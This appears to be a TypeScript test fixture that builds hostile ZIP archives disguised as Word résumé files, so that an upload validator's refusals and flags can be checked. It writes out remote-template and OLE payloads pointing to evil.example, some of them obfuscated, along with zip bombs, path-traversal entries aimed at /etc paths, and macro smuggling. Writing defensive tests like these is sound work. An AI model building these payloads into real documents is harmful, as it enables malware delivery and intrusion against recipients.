import { zipFile, type ZipPart } from '#test/support/zip-file.ts'
import { all, type HostileFile } from './hostile-file.ts'

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const types = (type = WORD, more = '') =>
  `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${type}"/>${more}</Types>`
const relation = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`

const packageOf = (contentTypes: string, ...more: ZipPart[]) =>
  zipFile([
    { name: '[Content_Types].xml', content: contentTypes },
    { name: 'word/document.xml', content: '<w:document/>' },
    ...more,
  ])
const docx = (...more: ZipPart[]) => packageOf(types(), ...more)
const part = (name: string, content: Buffer | string = 'x'): ZipPart => ({ name, content })
const related = (content: string) => docx(part('word/_rels/settings.xml.rels', content))
const zeros = (size: number) => Buffer.alloc(size)
const ooxml = (kind: string) => `application/vnd.openxmlformats-officedocument.${kind}.main+xml`

/** ZIP archives that call themselves a Word document. */
export function hostilePackages(): HostileFile[] {
  const whole = docx()
  const refused = all({ refused: 'upload.resume_type' }, [
    ['any archive', 'cv.docx', zipFile([part('cv.txt')])],
    ['a Java archive', 'cv.docx', docx(part('META-INF/MANIFEST.MF', 'Main-Class: A'))],
    ['an Android program', 'cv.docx', docx(part('AndroidManifest.xml'), part('classes.dex'))],
    ['a spreadsheet', 'cv.docx', packageOf(types(ooxml('spreadsheetml.sheet')))],
    ['a presentation', 'cv.docx', packageOf(types(ooxml('presentationml.presentation')))],
    ['a template', 'cv.docx', packageOf(types(ooxml('wordprocessingml.template')))],
    [
      'an OpenDocument',
      'cv.docx',
      zipFile([part('mimetype', 'application/vnd.oasis.opendocument.text'), part('content.xml')]),
    ],
    [
      'a macro document by another name',
      'cv.docx',
      packageOf(types('application/vnd.ms-word.document.macroEnabled.main+xml')),
    ],
    ['macros', 'cv.docx', docx(part('word/vbaProject.bin'))],
    ['macros in capitals', 'cv.docx', docx(part('word/VBAPROJECT.BIN'))],
    ['macros under another name', 'cv.docx', related(relation('vbaProject', 'picture.bin', 'Internal'))],
    [
      'macros by their type alone',
      'cv.docx',
      packageOf(types(WORD, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
    ],
    [
      'a template from the net',
      'cv.docx',
      related(relation('attachedTemplate', 'https://evil.example/t.dotm')),
    ],
    ['a template from a share', 'cv.docx', related(relation('attachedTemplate', '\\\\evil.example\\t.dotm'))],
    [
      'a template behind character references',
      'cv.docx',
      related(relation('attachedTemplate', '&#x68;ttps://evil.example/t.dotm')),
    ],
    [
      'a template behind an entity',
      'cv.docx',
      related(`<!DOCTYPE x [<!ENTITY t "https://evil.example">]>${relation('attachedTemplate', '&t;')}`),
    ],
    ['an object from the net', 'cv.docx', related(relation('oleObject', 'mhtml:https://evil.example/x!x'))],
    ['a page from the net', 'cv.docx', related(relation('aFChunk', 'https://evil.example/x.html'))],
    ['a frame from the net', 'cv.docx', related(relation('frame', 'https://evil.example/x.html'))],
    ['a bomb in one part', 'cv.docx', docx(part('word/media/a', zeros(6_000_000)))],
    [
      'a bomb in many parts',
      'cv.docx',
      docx(...Array.from({ length: 12 }, (_, no) => part(`word/media/${no}`, zeros(1_000_000)))),
    ],
    ['a bomb in the types', 'cv.docx', packageOf(types(WORD, ' '.repeat(3_000_000)))],
    ['too many parts', 'cv.docx', docx(...Array.from({ length: 2_000 }, (_, no) => part(`word/${no}`, '')))],
    [
      'a part that lies about its size',
      'cv.docx',
      docx({ ...part('word/a', zeros(5_000)), declaredSize: 9 }),
    ],
    ['two parts of one name', 'cv.docx', docx(part('word/document.xml', '<w:other/>'))],
    ['two parts of one name but for the case', 'cv.docx', docx(part('word/DOCUMENT.xml'))],
    ['a locked part', 'cv.docx', docx({ ...part('word/b.xml'), encrypted: true })],
    ['a part that climbs out', 'cv.docx', docx(part('../../../etc/cron.d/x'))],
    ['a part that climbs out backwards', 'cv.docx', docx(part('word\\..\\..\\x.exe'))],
    ['a part at the root of the disk', 'cv.docx', docx(part('/etc/passwd'))],
    ['an end that is cut off', 'cv.docx', whole.subarray(0, -10)],
    ['a middle that is cut off', 'cv.docx', whole.subarray(0, 200)],
    ['a program behind it', 'cv.docx', Buffer.concat([whole, Buffer.from('MZ')])],
    ['nothing but a signature', 'cv.docx', 'PK\x03\x04'],
  ])
  return [
    ...refused,
    ...all({ flags: ['docx_embedded_file'] }, [
      ['another file within', 'cv.docx', docx(part('word/embeddings/oleObject1.bin'))],
    ]),
    ...all({ flags: ['docx_active_control'] }, [
      ['an active control', 'cv.docx', docx(part('word/activeX/activeX1.xml'))],
    ]),
    ...all({ flags: ['docx_remote_content'] }, [
      [
        'a picture that tells who looked',
        'cv.docx',
        related(relation('image', 'https://evil.example/seen.gif')),
      ],
    ]),
  ]
}
